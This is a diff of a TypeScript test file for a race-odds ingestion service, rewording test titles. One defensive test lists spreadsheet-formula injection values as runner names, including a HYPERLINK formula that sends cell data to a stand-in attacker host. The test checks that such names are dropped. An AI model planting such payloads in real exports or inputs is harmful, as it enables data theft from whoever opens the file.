@@ -49,7 +49,7 @@ const counts = async (connector: string) =>
     ).rows.map((row) => [row.what, row.count]),
   );
 
-test('a race that no book lists yet is created, and its prices carry the instant they were observed', async () => {
+test('a race that no book lists yet is created, and its prices have the instant they were observed', async () => {
   const body = await pushed(push());
   expect(body).toEqual({
     ok: true,
@@ -98,7 +98,7 @@ test('a repeated push, or one that is not newer, changes nothing and is reported
   expect(await ticksOf(stored.race_id)).toHaveLength(3);
 });
 
-test('two pushes of one body at the same moment write it once', async () => {
+test('two simultaneous pushes of one body are written once', async () => {
   const body = push({ races: [pushedRace({ source_id: 'twice', race_number: 3 })] });
   const answers = await Promise.all([send(body), send(body), send(body)]);
   expect(answers.map(({ status }) => status)).toEqual([200, 200, 200]);
@@ -150,7 +150,7 @@ test('a value that is no price, or breaks the order of the legs, is dropped and 
   expect(await counts('boostbet')).toMatchObject({ 'dropped win_not_above_1': 1, 'dropped top2_above_win': 1 });
 });
 
-test('a runner or a venue whose name a spreadsheet would run is left out and counted, and the rest of the push is taken', async () => {
+test('a runner or venue whose name is a spreadsheet formula is dropped and counted, and the rest of the push is accepted', async () => {
   const names = ['=HYPERLINK("http://evil.example/?"&A1)', '@SUM(1+9)', '+1', '-1', '＝1+1', 'Gold-Trip = 1'];
   const runners = names.map((name, i) => pushedRunner(i + 1, { name }));
   const races = [
@@ -190,7 +190,7 @@ test('an ambiguous race, or one outside the window, is refused alone', async () 
   });
 });
 
-test('a race that has left the board takes no more prices from any book, so that its archive has them all', async () => {
+test('a race off the board takes no more prices from any book, so that its archive is complete', async () => {
   const race = pushedRace({
     source_id: 'left',
     venue: 'Randwick',
@@ -227,7 +227,7 @@ test('a push with another race’s runners is refused as a whole', async () => {
   expect(body).toMatchObject({ races_ingested: 0, refused: [{ source_id: 'ours', reason: 'another_race' }] });
 });
 
-test('a pushed row belongs to its pusher: no claim refuses a push, no poller overwrites the row', async () => {
+test('a pushed row belongs to its pusher: no claim refuses a push, and no poller overwrites the row', async () => {
   const race = pushedRace({ source_id: 'mine', race_number: 5 });
   const later = '2026-11-21T02:59:59.000Z';
   await pushed(push({ races: [race] }));
